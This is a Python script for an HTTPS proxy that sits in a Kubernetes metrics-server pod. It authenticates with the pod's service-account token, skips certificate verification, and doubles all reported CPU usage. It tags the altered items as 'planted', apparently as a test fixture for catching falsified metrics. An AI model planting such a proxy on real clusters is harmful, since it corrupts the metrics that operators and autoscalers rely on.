"""An HTTPS proxy in the pod of metrics-server, with its certificate, that doubles all CPU usage in its responses.

It authenticates to metrics-server with the token of the pod's service account, because the API server identifies the
caller only to this proxy.
"""

import http.server
import json
import pathlib
import re
import ssl
import urllib.error
import urllib.request
from typing import Any

CERTIFICATE, KEY = "/tmp/apiserver.crt", "/tmp/apiserver.key"
METRICS_SERVER, PORT = "https://127.0.0.1:10250", 10251
TOKEN = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
MARK = "io.kubeproof/planted"


class FalsifiedMetrics(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        headers = {"Authorization": f"Bearer {TOKEN.read_text()}", "Accept": "application/json"}
        status, content_type, content = fetch(urllib.request.Request(METRICS_SERVER + self.path, headers=headers))
        if "json" in content_type:
            content = json.dumps(doubled(json.loads(content))).encode()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


def fetch(request: urllib.request.Request) -> tuple[int, str, bytes]:
    """Return status, content type and content of the response, which may be an error: there may be no metrics yet."""
    try:
        response = urllib.request.urlopen(request, context=unverified())
    except urllib.error.HTTPError as error:
        response = error
    with response:
        return response.status, response.headers["Content-Type"], response.read()


def doubled(found: dict[str, Any]) -> dict[str, Any]:
    """Double all CPU usage in the document, and annotate its items so that they can be recognised as falsified."""
    for item in found.get("items", [found]):
        usages = [item, *item.get("containers", [])]
        for usage in (holder["usage"] for holder in usages if "usage" in holder):
            usage["cpu"] = re.sub(r"\d+", lambda number: str(2 * int(number[0])), usage["cpu"])
            item["metadata"]["annotations"] = {MARK: "twice"}
    return found


def unverified() -> ssl.SSLContext:
    """Return a TLS context that accepts any certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


if __name__ == "__main__":
    server = http.server.ThreadingHTTPServer(("", PORT), FalsifiedMetrics)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(CERTIFICATE, KEY)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.serve_forever()
